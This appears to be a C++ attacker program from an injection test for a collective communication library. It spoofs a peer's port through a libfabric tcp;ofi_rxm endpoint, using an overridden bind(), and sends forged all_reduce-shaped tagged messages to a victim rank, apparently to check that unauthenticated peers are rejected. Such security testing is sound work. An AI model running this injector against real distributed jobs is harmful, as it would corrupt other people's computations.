// The attacker of the injection test (inject.sh): a process that does not know the
// job's secret opens a tcp;ofi_rxm endpoint whose address claims another port
// (that of the peer it poses as; its listening socket is bound on SRC_IP, e.g.
// 127.0.0.1, where the port is free, and its outgoing connections are left unbound,
// so that they leave from the host's own address: this file's bind() below) and
// sends, to a rank's endpoint, tagged messages shaped
// like a collective's: tag [kind Coll][call mark][sequence][step] (coll/call_context.hpp;
// the call mark of a float32 sum all_reduce of BYTES / 4 elements, which is no
// secret) with the length mark of BYTES (net/transport.hpp), payload floats of
// VALUE, for every
// sequence below SEQS and step below STEPS. Says when all are posted, then keeps
// progressing them for LIFETIME_S (the test stops it sooner) and prints how many
// completed.
//   inject SRC_IP CLAIMED_PORT VICTIM_IP VICTIM_PORT BYTES SEQS STEPS VALUE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_tagged.h>

#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <vector>

#include <unistd.h>

#include "coll/call_context.hpp"
#include "net/transport.hpp"
#include "sched/op.hpp"

// libfabric's tcp provider binds every socket of the endpoint to its source address.
// The first bind is the endpoint's listening socket (SRC_IP:CLAIMED_PORT, the port
// the peer's connection request claims); later ones, of connections to the victim,
// are skipped so that the kernel picks the source address by route. Exported from
// the executable (ENABLE_EXPORTS), it takes the place of libc's for libfabric.
extern "C" int bind(int fd, const sockaddr* addr, socklen_t len) {
  using Bind = int (*)(int, const sockaddr*, socklen_t);
  static Bind real = reinterpret_cast<Bind>(dlsym(RTLD_NEXT, "bind"));
  static bool listening_bound = false;
  if (listening_bound) return 0;
  listening_bound = true;
  return real(fd, addr, len);
}

namespace {
constexpr int LIFETIME_S = 60;
int die(const char* what, int rc) {
  fprintf(stderr, "inject: %s: %s\n", what, fi_strerror(rc < 0 ? -rc : rc));
  return 1;
}
}  // namespace

int main(int argc, char** argv) {
  if (argc != 9) {
    fprintf(stderr, "usage: inject SRC_IP CLAIMED_PORT VICTIM_IP VICTIM_PORT BYTES SEQS STEPS VALUE\n");
    return 2;
  }
  const char* src_ip = argv[1];
  const char* claimed = argv[2];
  const size_t bytes = strtoull(argv[5], nullptr, 10);
  const int seqs = atoi(argv[6]), steps = atoi(argv[7]);
  const float value = static_cast<float>(atof(argv[8]));
  // rxm refuses a connection whose eager limit differs from its own: DirectCCL's
  // default (DCCL_RXM_EAGER_BYTES), as an attacker would read it in the docs.
  setenv("FI_OFI_RXM_EAGER_LIMIT", "262144", 0);
  fi_info* hints = fi_allocinfo();
  hints->caps = FI_TAGGED | FI_MSG;
  hints->ep_attr->type = FI_EP_RDM;
  hints->mode = FI_CONTEXT | FI_CONTEXT2;
  hints->addr_format = FI_SOCKADDR_IN;
  hints->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
  hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
  fi_info* info = nullptr;
  int rc = fi_getinfo(FI_VERSION(1, 17), src_ip, claimed, FI_SOURCE, hints, &info);
  if (rc) return die("fi_getinfo", rc);
  fid_fabric* fabric;
  fid_domain* domain;
  fid_cq* cq;
  fid_av* av;
  fid_ep* ep;
  if ((rc = fi_fabric(info->fabric_attr, &fabric, nullptr))) return die("fi_fabric", rc);
  if ((rc = fi_domain(fabric, info, &domain, nullptr))) return die("fi_domain", rc);
  fi_cq_attr cqa{};
  cqa.format = FI_CQ_FORMAT_TAGGED;
  if ((rc = fi_cq_open(domain, &cqa, &cq, nullptr))) return die("fi_cq_open", rc);
  fi_av_attr ava{};
  ava.type = FI_AV_TABLE;
  if ((rc = fi_av_open(domain, &ava, &av, nullptr))) return die("fi_av_open", rc);
  if ((rc = fi_endpoint(domain, info, &ep, nullptr))) return die("fi_endpoint", rc);
  if ((rc = fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV))) return die("fi_ep_bind cq", rc);
  if ((rc = fi_ep_bind(ep, &av->fid, 0))) return die("fi_ep_bind av", rc);
  if ((rc = fi_enable(ep))) return die("fi_enable", rc);
  sockaddr_in dst{};
  dst.sin_family = AF_INET;
  dst.sin_port = htons(static_cast<uint16_t>(atoi(argv[4])));
  inet_pton(AF_INET, argv[3], &dst.sin_addr);
  fi_addr_t victim;
  if (fi_av_insert(av, &dst, 1, &victim, 0, nullptr) != 1) return die("fi_av_insert", -FI_EINVAL);
  std::vector<float> payload(bytes / sizeof(float), value);
  dccl::sched::Op call;  // the victim's all_reduce, as the attacker guesses it
  call.coll = dccl::tune::Coll::AllReduce;
  call.count = bytes / sizeof(float);
  call.dt = dcclFloat32;
  call.op = dcclSum;
  const uint32_t mark = dccl::sched::call_mark(call);
  const size_t total = static_cast<size_t>(seqs) * static_cast<size_t>(steps);
  std::vector<fi_context2> ctx(total);
  size_t posted = 0, completed = 0, failed = 0;
  bool told = false;
  // The victim reads its endpoint only inside its calls: keep progressing (its
  // connection and the queued messages alive) until the test ends this process.
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(LIFETIME_S);
  static volatile sig_atomic_t stop = 0;
  signal(SIGTERM, [](int) { stop = 1; });
  while (!stop && std::chrono::steady_clock::now() < end) {
    if (!told && posted == total) {
      printf("inject: %zu messages posted to %s:%s claiming port %s\n", total, argv[3], argv[4], claimed);
      fflush(stdout);
      told = true;
    }
    if (posted < total) {
      const uint64_t seq = posted / static_cast<size_t>(steps), step = posted % static_cast<size_t>(steps);
      const uint64_t tag = dccl::coll::make_coll_tag(seq, mark, static_cast<uint32_t>(step)) | dccl::net::length_mark(bytes);
      rc = static_cast<int>(fi_tsend(ep, payload.data(), bytes, nullptr, victim, tag, &ctx[posted]));
      if (rc == 0) ++posted;
      else if (rc != -FI_EAGAIN) return die("fi_tsend", rc);
    }
    fi_cq_tagged_entry e[16];
    const ssize_t n = fi_cq_read(cq, e, 16);
    if (n > 0) completed += static_cast<size_t>(n);
    if (n == -FI_EAVAIL) {
      fi_cq_err_entry err{};
      fi_cq_readerr(cq, &err, 0);
      ++failed;
    }
    if (n <= 0) usleep(1000);
  }
  printf("inject: %zu of %zu messages sent to %s:%s claiming port %s (%zu failed)\n", completed, total, argv[3],
         argv[4], claimed, failed);
  fi_close(&ep->fid);
  fi_close(&av->fid);
  fi_close(&cq->fid);
  fi_close(&domain->fid);
  fi_close(&fabric->fid);
  fi_freeinfo(info);
  fi_freeinfo(hints);
  return 0;
}
